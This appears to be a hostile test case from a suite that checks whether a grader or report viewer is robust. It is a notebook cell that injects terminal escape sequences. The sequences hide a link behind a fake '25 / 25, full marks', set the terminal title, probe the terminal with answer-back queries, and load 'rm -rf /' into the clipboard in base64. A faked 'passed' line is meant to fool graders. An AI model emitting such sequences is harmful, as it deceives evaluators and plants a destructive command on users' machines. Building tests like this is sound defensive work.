# attack: links_and_titles_for_a_terminal
# kind: hostile
# tries: sets the title of the terminal in which reports are read, fills its clipboard, and puts a link under innocent words
# seen: the escape character is on the page or the terminal
# never: ]8;;
# deserves: nothing
# extra: before 3.2a
# %%
link = '\x1b]8;;http://127.0.0.1/\x1b\\25 / 25, full marks\x1b]8;;\x1b\\'
title, clipboard, answer_back = '\x1b]0;dryfit\x07', '\x1b]52;c;cm0gLXJmIC8=\x07', '\x1b[c\x1b[6n\x1bP$q"p\x1b\\'
print(link, title)
get_ipython().system(link + title + clipboard)
plt.title(title)
raise RuntimeError(f'{link}{title}{clipboard}{answer_back}\x1b[1;32mpassed\x1b[0m\x1b[8m')
